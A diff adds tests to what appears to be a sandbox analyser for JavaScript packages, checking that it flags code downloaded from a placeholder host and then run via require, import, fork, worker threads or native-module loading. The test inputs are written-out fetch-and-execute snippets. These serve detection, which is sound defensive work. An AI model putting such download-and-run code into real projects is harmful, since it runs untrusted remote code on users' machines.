@@ -117,6 +117,37 @@ describe("the guest's network", () => {
   });
 });
 
+describe("what was downloaded to a file", () => {
+  const get = (url: string, then: string): string =>
+    `fetch("${url}").then((answer) => answer.arrayBuffer()).then((bytes) => {
+       const file = require("path").resolve("downloaded." + "${url}".split(".").at(-1));
+       require("fs").writeFileSync(file, Buffer.from(bytes));
+       ${then}
+     });`;
+
+  test.each([
+    ["required", get("https://a.invalid/x.js", "require(file)")],
+    ["imported", get("https://a.invalid/x.mjs", "import(file)")],
+    ["started by Node", get("https://a.invalid/x.js", "require('child_process').fork(file)")],
+    ["run by a worker", get("https://a.invalid/x.js", "new (require('worker_threads').Worker)(file)")],
+    ["a native module that is loaded", get("https://a.invalid/x.node", "require(file)")],
+  ])("is known when it is %s", async (_, text) => {
+    const { observations } = await run(text);
+
+    const code = observations.filter(({ kind }) => kind === "code");
+
+    expect(code.some(({ honey }) => honey.includes("download"))).toBe(true);
+  });
+
+  test("is no code where it is read as data, and files of the package are none of it", async () => {
+    const { observations } = await run(
+      get("https://a.invalid/x.json", "require(file); require('./install.js')"),
+    );
+
+    expect(observations.filter(({ kind }) => kind === "code")).toEqual([]);
+  });
+});
+
 describe("a ghost", () => {
   test("a ghost can be called, constructed, extended, awaited, compared and written", async () => {
     const { printed, problem } = await run(
